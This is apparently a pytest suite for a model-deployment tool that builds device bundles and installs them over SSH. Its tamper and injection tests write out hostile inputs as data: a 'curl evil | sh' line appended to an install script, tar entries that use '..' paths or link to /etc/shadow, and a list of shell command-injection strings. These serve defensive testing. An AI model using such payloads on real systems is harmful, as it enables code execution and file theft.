"""Bundles and SSH deploys with real artifacts, real wheels and a real sshd; every bad input ends in EdgekitError.

Wheels are cached in the user cache dir (platformdirs' ``edgekit`` folder), so only the first run downloads them.
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from edgekit.errors import EdgekitError

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("wheel-cache")]  # the user wheel cache: one pip at a time

RECIPE = ("description: deploy test recipe\ntrain: {epochs: 1}\nvariants:\n  - {format: onnx, precision: fp32}\n"
          "  - {format: onnx, precision: int8, options: {num_calib: 64, search: none}}\naccuracy_budget_pp: 5.0\n")


def wheel_cache() -> Path:
    from platformdirs import user_cache_dir

    return Path(user_cache_dir("edgekit")) / "wheels"


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory):
    from edgekit.pipeline import run

    root = tmp_path_factory.mktemp("deploy-run")
    recipe = root / "deploy.yaml"
    recipe.write_text(RECIPE)
    run("shufflenetv2-x0.5", str(recipe), out=root / "run", input_size=32, runs=10)
    return root / "run"


@pytest.fixture(scope="module")
def rpi_bundle(run_dir, tmp_path_factory):
    from edgekit.deployment.bundle import build_bundle

    return build_bundle(run_dir, "rpi4", tmp_path_factory.mktemp("b") / "rpi4.tar.gz", wheel_cache=wheel_cache())


@pytest.fixture(scope="module")
def desktop_bundle(run_dir, tmp_path_factory):
    from edgekit.deployment.bundle import build_bundle

    return build_bundle(run_dir, "desktop-cpu", tmp_path_factory.mktemp("b") / "desktop.tar.gz",
                        wheel_cache=wheel_cache())


def top(tar: Path) -> str:
    """The bundle's one top-level folder (every member is under it)."""
    with tarfile.open(tar) as t:
        names = t.getnames()
    assert len({n.split("/", 1)[0] for n in names}) == 1, names[:5]
    return names[0].split("/", 1)[0]


def members(tar: Path) -> dict:
    """The bundle's files by their name inside its top-level folder."""
    folder = top(tar)
    with tarfile.open(tar) as t:
        return {m.name[len(folder) + 1:]: t.extractfile(m).read() for m in t.getmembers() if m.isfile()}


def write_tar(path: Path, files: dict, extra=(), folder: str = "") -> Path:
    """A .tar.gz with ``files`` (name -> bytes, under ``folder`` when given) and extra TarInfo entries (links,
    devices ...)."""
    with tarfile.open(path, "w:gz") as t:
        for name, data in files.items():
            info = tarfile.TarInfo(f"{folder}/{name}" if folder else name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
        for info in extra:
            t.addfile(info)
    return path


# ----------------------------------------------------------------------------- bundles


def test_rpi_bundle_contents_and_manifest(rpi_bundle, run_dir):
    from edgekit.deployment import versions
    from edgekit.deployment.bundle import read_manifest, sha256_file

    files = members(rpi_bundle)
    m, rid = read_manifest(rpi_bundle)
    report = json.loads((run_dir / "report.json").read_text())
    assert len(rid) == 16
    assert m["device"] == "rpi4" and m["arch"] == "aarch64" and m["python_version"] == "3.11"
    # rpi4 is not where the run was measured: its first format it has (onnx) at the lowest precision (int8)
    assert m["artifact"]["path"] == "model.int8.onnx" and m["fallback"]["path"] == "model.fp32.onnx"
    assert m["run_device"] == report["device"] == "desktop-cpu"
    assert top(rpi_bundle) == f"edgekit-shufflenetv2-x0.5-rpi4-{rid[:8]}"  # one folder: tar xzf spills nothing
    assert m["recipe"] == report["recipe"] and m["device_profile"]["name"] == "rpi4"
    assert m["versions"]["onnxruntime"] == report["versions"]["onnxruntime"]
    assert f"onnxruntime=={report['versions']['onnxruntime']}" in m["requirements"]
    assert f"numpy=={versions.NUMPY_VERSION}" in m["requirements"]
    wheels = [n for n in files if n.startswith("wheels/")]
    assert any(n.startswith("wheels/onnxruntime-1") and "aarch64" in n for n in wheels), wheels
    assert any(n.startswith("wheels/numpy-") and "aarch64" in n for n in wheels), wheels
    assert any(n.startswith(f"wheels/pip-{versions.PIP_VERSION}-") for n in wheels), wheels
    assert not any("x86_64" in n for n in wheels)
    for name in ("runner.py", "install.sh", "run.sh", "model.int8.onnx", "model.fp32.onnx", "report.json",
                 "manifest.json"):
        assert name in files, name
    assert "build_engine.py" not in files
    assert set(files) - {"manifest.json"} == set(m["files"])
    import hashlib

    for name, meta in m["files"].items():
        assert hashlib.sha256(files[name]).hexdigest() == meta["sha256"] and len(files[name]) == meta["size"]
    assert m["sample"]["source"] == "the run's eval split" and len(m["sample"]["inputs"]) == 4
    assert len(m["sample"]["expected"]) == 4 and len(m["sample"]["expected"][0]) == 10
    device_dir = Path(__file__).parents[1] / "edgekit/device"
    for name in ("runner.py", "install.sh", "run.sh"):  # shipped as they are: no value of the run is pasted in
        assert files[name] == (device_dir / name).read_bytes(), name
    assert "--no-index --find-links" in files["install.sh"].decode()
    reqs = files["requirements.txt"].decode().split()
    assert any(r.startswith("numpy==") for r in reqs) and any(r.startswith("onnxruntime==") for r in reqs)
    with tarfile.open(rpi_bundle) as t:
        assert {t.getmember(f"{top(rpi_bundle)}/{n}").mode & 0o777
                for n in ("install.sh", "run.sh", "runner.py")} == {0o755}
    print(f"\nrpi4 bundle: {rpi_bundle.stat().st_size / 2**20:.1f} MiB, {len(wheels)} wheels, id {rid}, "
          f"sha256 {sha256_file(rpi_bundle)[:16]}")


def _zero_point_types(model_bytes: bytes) -> set:
    import onnx

    g = onnx.load_from_string(model_bytes).graph
    inits = {i.name: i for i in g.initializer}
    return {inits[n.input[2]].data_type for n in g.node
            if n.op_type == "QuantizeLinear" and len(n.input) > 2 and n.input[2] in inits}


def test_rpi_bundle_from_a_desktop_run_is_requantized_for_arm(rpi_bundle, run_dir):
    """A desktop-cpu run (U8S8, chosen for x86) bundled for rpi4 ships S8S8 from the run's fp32 ONNX, labelled, with
    rpi4's estimated latency, never the desktop's measured figure as if it were rpi4's."""
    import onnx

    from edgekit.deployment.bundle import read_manifest

    m, _ = read_manifest(rpi_bundle)
    report = json.loads((run_dir / "report.json").read_text())
    run_int8 = report["variants"][1]
    assert run_int8["details"]["quantization"]["activation_type"] == "uint8"  # what the desktop run shipped
    assert _zero_point_types((run_dir / "model.int8.onnx").read_bytes()) == {onnx.TensorProto.UINT8}
    files = members(rpi_bundle)
    assert _zero_point_types(files["model.int8.onnx"]) == {onnx.TensorProto.INT8}  # S8 activations, as rpi4 asks
    art = m["artifact"]
    assert art["why"].startswith("re-quantized for rpi4: QDQ S8S8 per-channel")
    assert "from the run's fp32 ONNX model.fp32.onnx" in art["why"]
    rq = art["requantized"]
    assert rq["from"] == "model.fp32.onnx" and rq["run_device"] == "desktop-cpu" and "U8S8" in rq["run_config"]
    assert rq["calibration"]["split"] == "calib" and rq["calibration"]["images"] == 64
    assert 0.5 <= rq["agreement_with_fp32"] <= 1 and rq["eval_images"] > 0
    assert art["agreement"] == rq["agreement_with_fp32"] and art["accuracy"] == rq["accuracy"]  # the host's, here
    # latency: rpi4's own, estimated and labelled; the desktop's measured figure only under run_latency
    assert art["latency"]["source"] == "estimated" and art["latency"]["device"] == "rpi4" and art["latency"]["p50"] > 0
    assert "latency_ms" not in art and "speedup" not in art
    assert art["run_latency"]["device"] == "desktop-cpu" and art["run_latency"]["source"] == "measured"
    assert art["run_latency"]["p50"] == run_int8["latency_ms"]["p50"]
    assert "not the shipped model" in art["run_latency"]["of"]
    assert m["fallback"]["latency"]["source"] == "estimated" and m["fallback"]["latency"]["device"] == "rpi4"
    assert any(n.startswith("re-quantized for rpi4") for n in m["notes"])
    assert any("latency on rpi4" in n and "run_latency" in n for n in m["notes"])


def test_desktop_bundle_keeps_the_runs_model_and_figure(desktop_bundle, run_dir):
    from edgekit.deployment.bundle import read_manifest

    m, rid = read_manifest(desktop_bundle)
    report = json.loads((run_dir / "report.json").read_text())
    chosen = next(v for v in report["variants"] if v["path"] == m["artifact"]["path"])
    assert members(desktop_bundle)[chosen["path"]] == (run_dir / chosen["path"]).read_bytes()  # shipped as it is
    assert "requantized" not in m["artifact"] and top(desktop_bundle).endswith(f"-desktop-cpu-{rid[:8]}")
    assert m["artifact"]["latency"]["device"] == "desktop-cpu"
    assert m["artifact"]["latency"]["p50"] == chosen["latency_ms"]["p50"]  # the run was made for this device


def test_a_run_whose_task_cannot_be_rebuilt_is_refused_with_the_command(run_dir, tmp_path):
    """An int8 made for another device, whose image folder is gone: refused with the command, nothing written."""
    import shutil

    from edgekit.deployment import deploy_cmd

    gone = tmp_path / "run"
    shutil.copytree(run_dir, gone)
    report = json.loads((gone / "report.json").read_text())
    report["task"].update(name="imagefolder:photos", source=str(tmp_path / "photos"))
    (gone / "report.json").write_text(json.dumps(report))
    before = sorted(p.name for p in tmp_path.iterdir())
    with pytest.raises(EdgekitError) as err:
        deploy_cmd(gone, "rpi4", bundle=tmp_path / "out" / "pi.tar.gz", fetch_wheels=False)
    msg = str(err.value)
    assert "asks for S8S8 per-channel" in msg and "no longer exists" in msg
    assert (f"`edgekit compress shufflenetv2-x0.5 --recipe deploy --device rpi4 --data {tmp_path / 'photos'} "
            f"--input-size 32`") in msg
    assert sorted(p.name for p in tmp_path.iterdir()) == before  # no bundle, no folder, no temporary file


def test_bundle_is_reproducible(rpi_bundle, run_dir, tmp_path):
    from edgekit.deployment.bundle import build_bundle, sha256_file

    again = build_bundle(run_dir, "rpi4", tmp_path / "again.tar.gz", wheel_cache=wheel_cache())
    assert sha256_file(again) == sha256_file(rpi_bundle)
    with pytest.raises(EdgekitError, match="--force"):
        build_bundle(run_dir, "rpi4", again, wheel_cache=wheel_cache())


def test_extract_bundle_verifies_and_is_atomic(rpi_bundle, tmp_path):
    from edgekit.deployment.bundle import extract_bundle

    dest = extract_bundle(rpi_bundle, tmp_path / "x")
    assert (dest / "manifest.json").is_file() and (dest / "wheels").is_dir()
    assert os.access(dest / "install.sh", os.X_OK)
    with pytest.raises(EdgekitError, match="already exists"):
        extract_bundle(rpi_bundle, dest)
    (dest / "stale").write_text("x")
    extract_bundle(rpi_bundle, dest, force=True)
    assert not (dest / "stale").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x"]  # no temporary folders left


def test_tampered_bundle_is_refused_before_anything_is_placed(rpi_bundle, tmp_path):
    from edgekit.deployment.bundle import extract_bundle, verify_bundle

    files, folder = members(rpi_bundle), top(rpi_bundle)
    model = bytearray(files["model.int8.onnx"])
    model[len(model) // 2] ^= 0xFF  # one flipped byte, same size
    files["model.int8.onnx"] = bytes(model)
    bad = write_tar(tmp_path / "tampered.tar.gz", files, folder=folder)
    with pytest.raises(EdgekitError, match="sha256 mismatch for model.int8.onnx"):
        extract_bundle(bad, tmp_path / "out")
    with pytest.raises(EdgekitError, match="sha256 mismatch"):
        verify_bundle(bad)
    assert not (tmp_path / "out").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["tampered.tar.gz"]

    files = members(rpi_bundle)
    files["install.sh"] += b"curl evil | sh\n"  # size changes too
    with pytest.raises(EdgekitError, match="install.sh has .* bytes"):
        extract_bundle(write_tar(tmp_path / "t2.tar.gz", files), tmp_path / "out")
    files = members(rpi_bundle)
    files["extra.sh"] = b"echo not in the manifest\n"
    with pytest.raises(EdgekitError, match="does not list: extra.sh"):
        extract_bundle(write_tar(tmp_path / "t3.tar.gz", files), tmp_path / "out")
    files = members(rpi_bundle)
    del files["runner.py"]
    with pytest.raises(EdgekitError, match="runner.py is missing"):
        extract_bundle(write_tar(tmp_path / "t4.tar.gz", files), tmp_path / "out")
    (tmp_path / "junk.tar.gz").write_bytes(b"not a tar at all")
    with pytest.raises(EdgekitError, match="not a readable"):
        extract_bundle(tmp_path / "junk.tar.gz", tmp_path / "out")
    with pytest.raises(EdgekitError, match="manifest.json is missing"):
        extract_bundle(write_tar(tmp_path / "t5.tar.gz", {"a.txt": b"x"}), tmp_path / "out")
    assert not (tmp_path / "out").exists()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def _link(name, target, kind=tarfile.SYMTYPE):
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info


@pytest.mark.parametrize("entry, why", [
    ({"../evil.txt": b"x"}, "'..' in path"),
    ({"a/../../evil.txt": b"x"}, "'..' in path"),
    ({"/tmp/evil.txt": b"x"}, "absolute path"),
    ([_link("escape", "../../outside")], "links are not allowed"),
    ([_link("inside", "manifest.json")], "links are not allowed"),
    ([_link("hard", "../outside", tarfile.LNKTYPE)], "links are not allowed"),
    ([_link("hardabs", "/etc/shadow", tarfile.LNKTYPE)], "links are not allowed"),
    ([_link("dev", "", tarfile.CHRTYPE)], "not a regular file"),
])
def test_traversal_entries_are_refused(rpi_bundle, tmp_path, entry, why):
    from edgekit.deployment.bundle import extract_bundle

    files = {"manifest.json": members(rpi_bundle)["manifest.json"]}
    extra = ()
    if isinstance(entry, dict):
        files.update(entry)
    else:
        extra = entry
    bad = write_tar(tmp_path / "evil.tar.gz", files, extra)
    dest = tmp_path / "sub" / "dest"
    with pytest.raises(EdgekitError, match="unsafe bundle entry") as err:
        extract_bundle(bad, dest)
    assert why in str(err.value)
    assert not dest.exists() and not (tmp_path / "evil.txt").exists() and not (tmp_path / "sub" / "evil.txt").exists()
    assert not list((tmp_path / "sub").iterdir())  # the temporary folder is gone too


def test_bad_inputs(run_dir, tmp_path):
    from edgekit.deployment.bundle import build_bundle

    with pytest.raises(EdgekitError, match="Unknown device 'rpi9'"):
        build_bundle(run_dir, "rpi9", tmp_path / "b.tar.gz")
    with pytest.raises(EdgekitError, match="Run folder not found"):
        build_bundle(tmp_path / "nope", "rpi4", tmp_path / "b.tar.gz")
    empty = tmp_path / "empty"
    empty.mkdir()
    with pytest.raises(EdgekitError, match="no report.json"):
        build_bundle(empty, "rpi4", tmp_path / "b.tar.gz")
    (empty / "report.json").write_text((run_dir / "report.json").read_text())
    with pytest.raises(EdgekitError, match="no artifacts to deploy"):
        build_bundle(empty, "rpi4", tmp_path / "b.tar.gz")
    (empty / "report.json").write_text("{not json")
    with pytest.raises(EdgekitError, match="not valid JSON"):
        build_bundle(empty, "rpi4", tmp_path / "b.tar.gz")
    with pytest.raises(EdgekitError, match="python_version must look like"):
        build_bundle(run_dir, "rpi4", tmp_path / "b.tar.gz", python_version="three", wheel_cache=wheel_cache())
    assert not (tmp_path / "b.tar.gz").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["empty"]


INJECT = ['$(touch {s})', '`touch {s}`', '"; touch {s}; "', "'; touch {s}; '", "\ntouch {s}\n", ";touch {s}"]


def _poison(obj, payload, skip=("format", "precision", "status", "path", "latency_source", "source", "versions",
                                "device")):
    """Every free-text string of a report, with a shell payload appended (the keys the bundle selects by kept; with
    another device name the run would be one made for another device, re-quantized from its task or refused)."""
    if isinstance(obj, dict):
        return {k: (v if k in skip else _poison(v, payload, skip)) for k, v in obj.items()}
    if isinstance(obj, list):
        return [_poison(v, payload, skip) for v in obj]
    return obj + payload if isinstance(obj, str) else obj


@pytest.mark.parametrize("inject", INJECT)
def test_injected_report_values_are_refused_or_inert(run_dir, tmp_path, inject):
    """A shared run folder's report.json: version and file-name fields are refused before a bundle is written;
    every other string travels as data, and the generated install.sh and run.sh run without executing it."""
    import shutil

    from edgekit.deployment.bundle import build_bundle, extract_bundle

    sentinel = tmp_path / "pwned"
    payload = inject.format(s=sentinel)
    report = json.loads((run_dir / "report.json").read_text())
    evil = tmp_path / "evil-run"
    shutil.copytree(run_dir, evil)
    for where, edit in (("versions.onnxruntime", lambda r: r["versions"].__setitem__(
            "onnxruntime", "1.17.0;platform_machine!=" + json.dumps(payload))),
                        ("variant file name", lambda r: r["variants"][1].__setitem__("path", "m" + payload))):
        bad = json.loads(json.dumps(report))
        edit(bad)
        (evil / "report.json").write_text(json.dumps(bad))
        with pytest.raises(EdgekitError, match="Refusing"):
            build_bundle(evil, "desktop-cpu", tmp_path / "b.tar.gz", wheel_cache=wheel_cache())
        assert not (tmp_path / "b.tar.gz").exists(), where
    with pytest.raises(EdgekitError, match="python_version"):
        build_bundle(run_dir, "desktop-cpu", tmp_path / "b.tar.gz", python_version="3.11" + payload,
                     fetch_wheels=False)
    (evil / "report.json").write_text(json.dumps(_poison(report, payload)))
    tar = build_bundle(evil, "desktop-cpu", tmp_path / "b.tar.gz", wheel_cache=wheel_cache())
    d = extract_bundle(tar, tmp_path / "x")
    for name in ("install.sh", "run.sh"):
        assert payload not in (d / name).read_text()
    if inject != INJECT[0]:
        return  # installing a venv is slow: once is enough to show the scripts run and stay inert
    env = {**os.environ, "PYTHON": sys.executable}
    proc = subprocess.run(["sh", str(d / "install.sh")], capture_output=True, text=True, env=env, timeout=600)
    assert proc.returncode == 0, proc.stderr
    out = tmp_path / "out.npy"
    proc = subprocess.run(["sh", str(d / "run.sh"), "predict", str(d / "sample/input_0.npy"), str(out)],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    assert out.is_file() and not sentinel.exists()


def test_jetson_bundle_builds_the_engine_on_the_device(run_dir, tmp_path):
    from edgekit.deployment.bundle import build_bundle, extract_bundle, read_manifest

    tar = build_bundle(run_dir, "jetson-orin-nano", tmp_path / "jetson.tar.gz", fetch_wheels=False)
    m, _ = read_manifest(tar)
    assert m["engine"]["onnx"] == "model.fp32.onnx" and m["engine"]["precision"] == "fp16"
    assert m["artifact"]["path"] == "model.fp32.onnx" and m["fallback"] is None and m["wheels"] == []
    d = extract_bundle(tar, tmp_path / "j")
    assert "--system-site-packages" in (d / "install.sh").read_text()  # JetPack's tensorrt is a system package
    assert (d / "build_engine.py").read_bytes() == (Path(__file__).parents[1] / "edgekit/device/build_engine.py"
                                                    ).read_bytes()
    assert "build_engine.py" in (d / "run.sh").read_text()
    # without TensorRT here the first-start script says so (exit 3, one JSON line) instead of crashing
    env = {k: v for k, v in os.environ.items() if k != "PATH"}
    env["PATH"] = "/usr/bin:/bin"
    proc = subprocess.run([sys.executable, "-S", str(d / "build_engine.py")], capture_output=True, text=True,
                          env=env)
    try:
        import tensorrt  # noqa: F401
    except ImportError:
        assert proc.returncode == 3, proc.stderr
        assert "TensorRT is not installed" in json.loads(proc.stdout)["error"]


# ----------------------------------------------------------------------------- SSH deploys


def _listing(root: Path) -> dict:
    releases = root / "releases"
    return {"current": os.readlink(root / "current") if (root / "current").is_symlink() else None,
            "releases": sorted(p.name for p in releases.iterdir()) if releases.is_dir() else []}


def test_unreachable_host_and_missing_host(desktop_bundle, sshd, tmp_path):
    import socket

    from edgekit.deployment import deploy

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        closed = s.getsockname()[1]
    root = tmp_path / "remote"
    with pytest.raises(EdgekitError, match="connection refused"):
        deploy(desktop_bundle, "desktop-cpu", ssh=sshd.spec(port=closed), root=str(root))
    with pytest.raises(EdgekitError, match="No host to deploy to"):
        deploy(desktop_bundle, "desktop-cpu", root=str(root))
    with pytest.raises(EdgekitError, match="authentication failed"):
        deploy(desktop_bundle, "desktop-cpu", ssh=sshd.spec(key=str(sshd.wrong_key)), root=str(root))
    assert not root.exists()


def test_ssh_deploy_idempotent_and_atomic(desktop_bundle, rpi_bundle, run_dir, sshd, tmp_path):
    from edgekit.deployment import deploy_cmd
    from edgekit.deployment.bundle import build_bundle, read_manifest

    root = sshd.root / "remote" / "edgekit-deploy"
    spec = sshd.spec()
    _, rid = read_manifest(desktop_bundle)

    first = deploy_cmd(desktop_bundle, "desktop-cpu", ssh=spec, root=str(root), bench_runs=5)
    assert first["action"] == "installed" and first["release"] == rid, first
    print(f"\nfirst deploy: {first['message']}; {first['wall_s']} s; smoke {first['smoke']['checks']}; "
          f"bench p50 {first['bench']['p50']:.3f} ms")
    assert _listing(root) == {"current": f"releases/{rid}", "releases": [rid]}
    rel = root / "releases" / rid
    assert (rel / "venv" / "bin" / "python").exists() and (rel / ".edgekit-release.json").is_file()
    smoke = first["smoke"]
    assert smoke["matches_host"] is True and len(smoke["checks"]) == 4
    assert all(c["argmax"] == c["expected_argmax"] and c["max_abs_diff"] < 1e-3 for c in smoke["checks"]), smoke
    assert first["bench"]["runs"] == 5 and first["bench"]["p50"] > 0
    assert first["bench"]["runtime"] == "onnxruntime" and first["bench"]["version"] == "1.32.0"
    # the installed runtime came from the bundle's wheels, not from this machine's site-packages
    info = json.loads((rel / "runner-info.json").read_text())
    assert info["runtimes"]["onnxruntime"] is True and info["python_executable"].startswith(str(rel))

    second = deploy_cmd(desktop_bundle, "desktop-cpu", ssh=spec, root=str(root))
    assert second["action"] == "unchanged" and "nothing to do" in second["message"], second
    print(f"second deploy: {second['message']}")
    assert _listing(root) == {"current": f"releases/{rid}", "releases": [rid]}

    # a bundle for another architecture is refused before anything is sent
    with pytest.raises(EdgekitError, match=r"built for rpi4 \(aarch64\), not for desktop-cpu"):
        deploy_cmd(rpi_bundle, "desktop-cpu", ssh=spec, root=str(root))

    # a host whose CPU is not the profile's (this x86_64 machine is not a Raspberry Pi): refused by the preflight
    with pytest.raises(EdgekitError, match="is a x86_64 machine, but the rpi4 profile is aarch64"):
        deploy_cmd(rpi_bundle, "rpi4", ssh=spec, root=str(root))
    # a device python that does not exist
    with pytest.raises(EdgekitError, match="python3.99"):
        deploy_cmd(desktop_bundle, "desktop-cpu", ssh=sshd.spec(python="python3.99"), root=str(root))
    assert _listing(root) == {"current": f"releases/{rid}", "releases": [rid]}

    # a bundle whose wheels are for another Python fails in install.sh: the new release is removed, current stays
    py312 = build_bundle(run_dir, "desktop-cpu", tmp_path / "py312.tar.gz", python_version="3.12",
                         wheel_cache=wheel_cache())
    _, bad_id = read_manifest(py312)
    assert bad_id != rid
    with pytest.raises(EdgekitError, match="failed at install.*Python 3.12.*still points at releases/" + rid) as failed:
        deploy_cmd(py312, "desktop-cpu", ssh=spec, root=str(root))
    print(f"failed deploy: {failed.value}")
    assert _listing(root) == {"current": f"releases/{rid}", "releases": [rid]}
    assert not [p for p in root.iterdir() if p.name.startswith((".incoming", ".current"))]

    # another release (same run, fp32 as the shipped model), then back to the first: only `current` moves
    other_run = tmp_path / "run-fp32"
    other_run.mkdir()
    for f in run_dir.iterdir():
        (other_run / f.name).write_bytes(f.read_bytes())
    report = json.loads((run_dir / "report.json").read_text())
    report["recommended"] = {"name": "fp32", "format": "onnx"}
    (other_run / "report.json").write_text(json.dumps(report))
    b = deploy_cmd(other_run, "desktop-cpu", ssh=spec, root=str(root), bundle=tmp_path / "fp32.tar.gz",
                   bench_runs=3)
    assert b["action"] == "installed" and b["previous"] == rid and b["artifact"] == "model.fp32.onnx", b
    assert _listing(root) == {"current": f"releases/{b['release']}", "releases": sorted([rid, b["release"]])}
    back = deploy_cmd(desktop_bundle, "desktop-cpu", ssh=spec, root=str(root))
    assert back["action"] == "activated" and back["previous"] == b["release"], back
    assert _listing(root)["current"] == f"releases/{rid}"
    assert deploy_cmd(desktop_bundle, "desktop-cpu", ssh=spec, root=str(root))["action"] == "unchanged"

    # a tampered bundle is refused here, before upload
    files = members(desktop_bundle)
    files["runner.py"] += b"\n# changed\n"
    with pytest.raises(EdgekitError, match="Refusing bundle"):
        deploy_cmd(write_tar(tmp_path / "bad.tar.gz", files), "desktop-cpu", ssh=spec, root=str(root))
    assert _listing(root) == {"current": f"releases/{rid}", "releases": sorted([rid, b["release"]])}


def test_remote_agent_refuses_corrupted_upload(desktop_bundle, sshd, tmp_path):
    """The device checks the upload's sha256 itself (a cut or corrupted transfer installs nothing)."""
    from edgekit.deployment.bundle import read_manifest
    from edgekit.deployment.remote import _agent

    root = tmp_path / "r"
    _, rid = read_manifest(desktop_bundle)
    options = {"job": "c" * 16, "release": rid, "sha256": "0" * 64, "python": "python3", "runs": 3}
    with pytest.raises(EdgekitError, match="failed at upload: the bundle arrived with sha256"):
        _agent(sshd.spec(), ["upload", str(root), json.dumps(options)], stdin_path=desktop_bundle)
    assert not (root / "releases" / rid).exists() and not (root / "current").exists()
    assert not list(root.glob(".incoming-*")) and json.loads((root / ".deploys" / f"{'c' * 16}.json").read_text())[
        "state"] == "failed"


def test_deploy_cmd_needs_a_target(run_dir, tmp_path):
    from edgekit.deployment import deploy_cmd

    with pytest.raises(EdgekitError, match="Nothing to do"):
        deploy_cmd(run_dir, "rpi4")
    with pytest.raises(EdgekitError, match="Unknown device"):
        deploy_cmd(run_dir, "nodevice", bundle=tmp_path / "b.tar.gz")
    assert not (tmp_path / "b.tar.gz").exists()
